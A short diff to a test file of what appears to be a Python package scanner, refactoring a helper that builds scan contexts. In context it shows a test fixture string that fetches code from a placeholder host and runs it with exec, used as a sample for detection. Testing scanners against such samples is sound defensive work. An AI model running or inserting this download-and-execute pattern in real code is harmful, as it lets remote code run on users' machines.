@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+from collections.abc import Callable
 
 from snakewarden.analysis import analyze
 from snakewarden.analysis.context import MAX_EXECUTED, ScanContext
@@ -14,8 +15,12 @@ PAYLOAD = "import requests\nexec(requests.get('https://stage.example.invalid/x')
 
 def _ctx(files: dict[str, str]) -> ScanContext:
     files = {"pyproject.toml": "", **files}
-    entries = [(p, len(t.encode()), lambda n, d=t.encode(): d[:n]) for p, t in files.items()]
+    entries = [(p, len(t.encode()), _reader(t.encode())) for p, t in files.items()]
     return ScanContext(artifact_from_files("demo", entries))
+
+
+def _reader(data: bytes) -> Callable[[int], bytes]:
+    return lambda n: data[:n]
 
 
 def _download_execute(files: dict[str, str]) -> list[object]:
